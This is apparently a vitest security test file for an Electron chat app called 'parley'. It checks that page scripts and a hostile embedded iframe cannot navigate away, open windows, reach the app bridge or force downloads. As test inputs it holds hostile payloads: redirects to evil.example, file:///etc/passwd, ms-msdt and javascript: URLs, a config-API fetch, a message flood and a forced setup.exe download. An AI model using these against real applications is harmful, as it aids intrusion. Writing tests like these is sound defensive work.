import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { useDesktop } from '../../testing/desktop-fixture.ts';
import type { DesktopUnderTest } from '../../testing/electron-double/launch-desktop.ts';

const fixture = useDesktop();
let desktop: DesktopUnderTest;

beforeAll(async () => {
  desktop = await fixture.launch();
});
afterAll(() => desktop.close());
beforeEach(() =>
  desktop.run(({ double }) => {
    double.journal.length = 0;
    double.blockedRequests.length = 0;
    // More than five links a minute are asked about; here somebody says yes.
    double.dialogAnswers.splice(0, Infinity, 0, 0, 0);
  }),
);

const inPage = (script: string) =>
  desktop.run(async ({ page, window }, source) => {
    const shown = await page();
    await shown.evaluate((text) => {
      const run = document.createElement('a');
      run.id = 'acted';
      document.querySelector('#acted')?.remove();
      document.body.append(run);
      return Reflect.construct(Function, [`return (async () => {${text}})()`])();
    }, source);
    await new Promise((resolve) => setTimeout(resolve, 150));
    return window().webContents.getURL();
  }, script);

const opened = () =>
  desktop.run(({ double }) =>
    double.journal.filter(({ call }) => call === 'shell.openExternal').map((entry) => entry.arguments[0]),
  );

describe('the page stays', () => {
  it.each([
    ['location', `location.href = 'https://evil.example/'`],
    [
      'a link',
      `document.body.insertAdjacentHTML('beforeend', '<a id="l" href="https://evil.example/">x</a>'); document.querySelector('#l').click()`,
    ],
    [
      'a form',
      `document.body.insertAdjacentHTML('beforeend', '<form id="f" action="https://evil.example/" method="post"></form>'); document.querySelector('#f').submit()`,
    ],
    ['another host of our scheme', `location.href = 'http://parley-evil.localhost:1/'`],
    ['a file', `location.href = 'file:///etc/passwd'`],
    ['data', `location.href = 'data:text/html,hello'`],
    ['its own source', `location.href = 'view-source:https://evil.example/'`],
  ])('E-13 E-34 A-145 whatever %s tries', async (_what, script) => {
    const url = await inPage(script);
    expect(url).toBe('parley://app/');
  });

  it('E-15 E-34 hands a web address it refuses to the system’s browser', async () => {
    await inPage(`location.href = 'https://example.com/a?b=c'`);
    expect(await opened()).toEqual(['https://example.com/a?b=c']);
  });

  it.each([
    ['window.open', `window.open('https://example.com/new', 'name')`],
    [
      'a link to a new tab',
      `document.body.insertAdjacentHTML('beforeend', '<a id="n" target="_blank" rel="noopener" href="https://example.com/new">x</a>'); document.querySelector('#n').click()`,
    ],
  ])('E-14 E-35 A-144 no window comes of %s', async (_what, script) => {
    await inPage(script);
    const found = await desktop.run(async ({ double, BrowserWindow, session }) => ({
      answers: double.journal.filter(({ call }) => call === 'window.open').map((entry) => entry.arguments),
      windows: BrowserWindow.getAllWindows().length,
      pages: (await session.fromPartition('persist:parley').context()).pages().length,
      requests: double.blockedRequests,
    }));
    expect(found).toEqual({ answers: [['https://example.com/new', 'deny']], windows: 2, pages: 2, requests: [] });
    expect(await opened()).toEqual(['https://example.com/new']);
  });

  it('E-36 asks before it opens plain http, and opens nothing without a yes', async () => {
    await desktop.run(({ double }) => double.dialogAnswers.splice(0, Infinity, 1));
    await inPage(`window.open('http://example.com/')`);
    expect(await opened()).toEqual([]);
    const question = await desktop.run(({ double }) =>
      double.journal.find(({ call }) => call === 'dialog.showMessageBox'),
    );
    expect(question?.arguments[0]).toMatchObject({ detail: expect.stringContaining('http://example.com/') });
  });

  it.each([
    'javascript:alert(1)',
    'file:///etc/passwd',
    'smb://host/share',
    'ms-msdt:/id',
    'https://user:pw@example.com/',
  ])('A-143 never opens %s', async (address) => {
    await inPage(`window.open(${JSON.stringify(address)})`);
    expect(await opened()).toEqual([]);
  });
});

describe('a hostile chat frame', () => {
  const HOSTILE = `<body><script>
    const say = (what, value) => parent.postMessage({ hostile: what, value }, '*');
    say('bridge', typeof window.parley);
    try { say('parent', parent.document.title) } catch (error) { say('parent', error.name) }
    try { top.location = 'https://evil.example/top' } catch (error) { say('top', error.name) }
    try { say('popup', String(window.open('https://evil.example/popup'))) } catch (error) { say('popup', error.name) }
    fetch('http://parley-app.localhost/api/config').then(() => say('fetch', 'read'), () => say('fetch', 'failed'));
    navigator.permissions.query({ name: 'geolocation' }).then((found) => say('geolocation', found.state), (error) => say('geolocation', error.name));
    for (let i = 0; i < 500; i++) say('flood', i);
    const link = document.createElement('a');
    link.href = 'https://evil.example/setup.exe'; link.download = 'setup.exe'; document.body.append(link); link.click();
    say('done', true);
  </script>`;

  const mount = (body: string) =>
    desktop.run(async ({ page, double, window: windowOf }, html) => {
      double.stubs.set('https://cdn.platform.openai.com/', { body: html, contentType: 'text/html' });
      const shown = await page();
      const said = await shown.evaluate(async () => {
        const heard: Record<string, unknown> = {};
        const done = new Promise((resolve) => setTimeout(resolve, 400));
        window.addEventListener('message', (event: MessageEvent<{ hostile?: string; value: unknown }>) => {
          if (event.data.hostile !== undefined) heard[event.data.hostile] = event.data.value;
        });
        const frame = document.createElement('iframe');
        frame.src = 'https://cdn.platform.openai.com/chat.html';
        document.body.append(frame);
        await done;
        frame.remove();
        return heard;
      });
      const journal = double.journal.map(
        (entry) => `${entry.call} ${String(entry.arguments[0])} ${String(entry.arguments[1])}`,
      );
      return { said, journal, url: windowOf().webContents.getURL(), requests: double.blockedRequests };
    }, body);

  it('A-138 finds no bridge, no parent, no window, no permission and no way out', async () => {
    const { said, url, requests, journal } = await mount(HOSTILE);
    expect(said).toMatchObject({ bridge: 'undefined', parent: 'SecurityError', done: true });
    expect(said['fetch']).not.toBe('read');
    expect(said['geolocation']).not.toBe('granted');
    expect(url).toBe('parley://app/');
    expect(requests.filter((address) => /evil\.example\/(?:top|popup|setup)/.test(address))).toEqual([]);
    expect(journal.filter((entry) => entry.startsWith('window.open') && !entry.endsWith('deny'))).toEqual([]);
  });

  it('E-34 may show the hosted chat, and nothing else', async () => {
    const result = await desktop.run(async ({ page, double }) => {
      const shown = await page();
      await shown.evaluate(async () => {
        for (const source of ['https://evil.example/frame', 'data:text/html,x', 'http://parley-app.localhost:1/']) {
          const frame = document.createElement('iframe');
          frame.src = source;
          document.body.append(frame);
        }
        await new Promise((resolve) => setTimeout(resolve, 200));
        for (const frame of document.querySelectorAll('iframe')) frame.remove();
      });
      return double.blockedRequests;
    });
    expect(result).toEqual([]);
  });
});
